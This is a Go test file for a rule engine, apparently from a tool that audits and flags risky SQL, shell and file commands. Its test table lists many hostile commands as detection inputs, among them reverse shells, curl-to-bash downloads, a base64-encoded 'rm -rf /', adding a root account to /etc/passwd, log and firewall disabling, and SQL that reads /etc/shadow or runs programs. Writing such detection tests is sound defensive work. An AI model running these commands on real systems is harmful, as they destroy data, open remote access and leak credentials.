// Copyright The pamtrail Authors
// SPDX-License-Identifier: Apache-2.0

package rules

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func builtinRules(t testing.TB) *Set {
	t.Helper()
	rs, err := Load(Config{Builtin: true})
	require.NoError(t, err)
	return rs
}

func matchedIDs(rs *Set, target Target, text string, rows int64) []string {
	var ids []string
	for _, m := range rs.Match(target, text, rows, nil) {
		ids = append(ids, m.RuleID)
	}
	return ids
}

func TestBuiltinRules(t *testing.T) {
	rs := builtinRules(t)
	tests := []struct {
		target Target
		text   string
		rows   int64
		want   []string // nil: no rule may Match
	}{
		// SQL
		{SQL, "DROP TABLE payroll", 0, []string{"sql.drop_object"}},
		{SQL, "drop   table if exists x; select 1", 0, []string{"sql.drop_object"}},
		{SQL, "DROP DATABASE prod", 0, []string{"sql.drop_database"}},
		{SQL, "TRUNCATE payroll", 0, []string{"sql.truncate"}},
		{SQL, "DELETE FROM payroll", 0, []string{"sql.delete_without_where"}},
		{SQL, "DELETE FROM payroll WHERE id = 1", 0, nil},
		{SQL, "UPDATE payroll SET salary = 0", 0, []string{"sql.update_without_where"}},
		{SQL, "update payroll p set salary = 0 where p.id = 3", 0, nil},
		{SQL, "GRANT ALL ON payroll TO mallory", 0, []string{"sql.grant_revoke"}},
		{SQL, "REVOKE SELECT ON payroll FROM bob", 0, []string{"sql.grant_revoke"}},
		{SQL, "ALTER ROLE x PASSWORD '[REDACTED]'", 0, []string{"sql.role_change"}},
		{SQL, "CREATE USER eve WITH SUPERUSER", 0, []string{"sql.role_change", "sql.superuser"}},
		{SQL, "COPY (SELECT 1) TO PROGRAM 'curl evil'", 0, []string{"sql.copy_program"}},
		{SQL, "SELECT pg_read_file('/etc/passwd')", 0, []string{"sql.server_file_access"}},
		{SQL, "COPY payroll FROM '/tmp/x.csv'", 0, []string{"sql.server_file_access"}},
		{SQL, "ALTER TABLE audit DISABLE TRIGGER ALL", 0, []string{"sql.disable_triggers"}},
		{SQL, "SET session_replication_role = replica", 0, []string{"sql.disable_triggers"}},
		{SQL, "ALTER TABLE payroll DISABLE ROW LEVEL SECURITY", 0, []string{"sql.disable_rls"}},
		{SQL, "COPY payroll TO STDOUT", 0, []string{"sql.bulk_export_copy"}},
		{SQL, "COPY payroll (id, salary) TO STDOUT WITH CSV", 0, []string{"sql.bulk_export_copy"}},
		{SQL, "SELECT * FROM payroll", 5000, []string{"sql.bulk_select"}},
		{SQL, "SELECT * FROM payroll", 10, nil},
		{SQL, "SELECT * FROM payroll LIMIT 5000", 5000, nil},
		{SQL, "SELECT id, name FROM users WHERE id = $1", 1, nil},
		{SQL, "INSERT INTO dropped_items VALUES (1)", 0, nil},
		{SQL, "SELECT date_trunc('day', now())", 0, nil},
		// SQL, MySQL dialect
		{SQL, "GRANT ALL PRIVILEGES ON *.* TO 'eve'@'%' WITH GRANT OPTION", 0, []string{"sql.grant_revoke", "sql.mysql_all_privileges"}},
		{SQL, "GRANT SELECT ON shop.* TO 'bob'@'%'", 0, []string{"sql.grant_revoke"}},
		{SQL, "UPDATE mysql.user SET Super_priv = 'Y' WHERE User = 'eve'", 0, []string{"sql.mysql_privilege_tables"}},
		{SQL, "SELECT * FROM payroll INTO OUTFILE '/tmp/p.csv'", 0, []string{"sql.mysql_server_file_access"}},
		{SQL, "SELECT LOAD_FILE('/etc/shadow')", 0, []string{"sql.mysql_server_file_access"}},
		{SQL, "LOAD DATA INFILE '/var/lib/x.csv' INTO TABLE t", 0, []string{"sql.mysql_server_file_access"}},
		{SQL, "SET sql_log_bin = 0", 0, []string{"sql.mysql_disable_logging"}},
		{SQL, "SET GLOBAL general_log = OFF", 0, []string{"sql.mysql_disable_logging", "sql.mysql_global_setting"}},
		{SQL, "SET GLOBAL max_connections = 10", 0, []string{"sql.mysql_global_setting"}},
		{SQL, "SET NAMES utf8mb4", 0, nil},
		{SQL, "SELECT outfile_name FROM jobs", 0, nil},
		// Shell
		{Shell, "rm -rf /", 0, []string{"shell.rm_rf_system"}},
		{Shell, "rm -fr /etc/nginx", 0, []string{"shell.rm_rf_system"}},
		{Shell, "rm -rf ./build", 0, nil},
		{Shell, "sudo systemctl restart nginx", 0, []string{"shell.privilege_escalation"}},
		{Shell, "su - postgres", 0, []string{"shell.privilege_escalation"}},
		{Shell, "chmod 777 /srv/app", 0, []string{"shell.chmod_world_writable"}},
		{Shell, "chmod 644 notes.txt", 0, nil},
		{Shell, "chown -R mallory /etc", 0, []string{"shell.chown_system"}},
		{Shell, "curl -fsSL https://x.example/i.sh | bash", 0, []string{"shell.pipe_to_shell"}},
		{Shell, "wget -qO- http://x | sh", 0, []string{"shell.pipe_to_shell"}},
		{Shell, "curl https://api.example/health", 0, nil},
		{Shell, "echo cm0gLXJmIC8= | base64 -d | bash", 0, []string{"shell.base64_to_shell"}},
		{Shell, "history -c", 0, []string{"shell.history_tamper"}},
		{Shell, "unset HISTFILE", 0, []string{"shell.history_tamper"}},
		{Shell, "vi /etc/sudoers", 0, []string{"shell.auth_files"}},
		{Shell, "echo 'eve:x:0:0::/:/bin/sh' >> /etc/passwd", 0, []string{"shell.auth_files"}},
		{Shell, "cat /etc/hostname", 0, nil},
		{Shell, "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", 0, []string{"shell.authorized_keys"}},
		{Shell, "crontab -e", 0, []string{"shell.crontab"}},
		{Shell, "crontab -l", 0, nil},
		{Shell, "iptables -F", 0, []string{"shell.firewall_flush"}},
		{Shell, "nft flush ruleset", 0, []string{"shell.firewall_flush"}},
		{Shell, "ufw disable", 0, []string{"shell.firewall_flush"}},
		{Shell, "nc -e /bin/sh 10.0.0.1 4444", 0, []string{"shell.reverse_shell"}},
		{Shell, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 0, []string{"shell.reverse_shell"}},
		{Shell, "scp /var/backups/db.dump eve@203.0.113.9:/tmp/", 0, []string{"shell.copy_off_host"}},
		{Shell, "rsync -a /srv/data/ backup.example:/dst", 0, []string{"shell.copy_off_host"}},
		{Shell, "scp backup.example:/dst/file.txt .", 0, nil},
		{Shell, "ls -la", 0, nil},
		// File operations
		{File, "write /home/bob/.ssh/authorized_keys", 0, []string{"file.sensitive_write"}},
		{File, "read /etc/passwd", 0, nil},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			assert.Equal(t, tt.want, matchedIDs(rs, tt.target, tt.text, tt.rows))
		})
	}
}

func TestRuleConfigOverrideAndDisable(t *testing.T) {
	rs, err := Load(Config{
		Builtin:  true,
		Disabled: []string{"sql.drop_object"},
		Rules: []Rule{
			{ID: "sql.grant_revoke", Severity: "critical"},
			{ID: "sql.pg_sleep", Target: "sql", Severity: "low", Reason: "sleeps on the server",
				Keywords: []string{"pg_sleep"}, Pattern: `\bpg_sleep\s*\(`},
		},
	})
	require.NoError(t, err)
	assert.Nil(t, matchedIDs(rs, SQL, "DROP TABLE x", 0), "disabled by id")
	got := rs.Match(SQL, "GRANT ALL ON x TO y", 0, nil)
	require.Len(t, got, 1)
	assert.Equal(t, "critical", riskLevelName(got[0].Severity), "severity overridden, pattern kept")
	assert.Equal(t, []string{"sql.pg_sleep"}, matchedIDs(rs, SQL, "SELECT pg_sleep(10)", 0))
}

func TestRuleConfigErrorsNameTheRule(t *testing.T) {
	tests := []struct {
		name string
		cfg  Config
		want []string
	}{
		{
			name: "bad fields",
			cfg:  Config{Rules: []Rule{{ID: "x", Target: "kernel", Severity: "extreme", Pattern: "(", Keywords: []string{"UPPER"}}}},
			want: []string{`rule "x": target`, `rule "x": severity`, `rule "x": pattern`, `rule "x": reason`, `rule "x": keywords: "UPPER"`},
		},
		{name: "missing id", cfg: Config{Rules: []Rule{{Target: "sql"}}}, want: []string{"every rule needs an id"}},
		{name: "unknown disabled id", cfg: Config{Builtin: true, Disabled: []string{"nope"}}, want: []string{`disabled: no rule with id "nope"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Load(tt.cfg)
			require.Error(t, err)
			for _, w := range tt.want {
				assert.ErrorContains(t, err, w)
			}
		})
	}
}

func riskLevelName(i int) string { return []string{"none", "low", "medium", "high", "critical"}[i] }
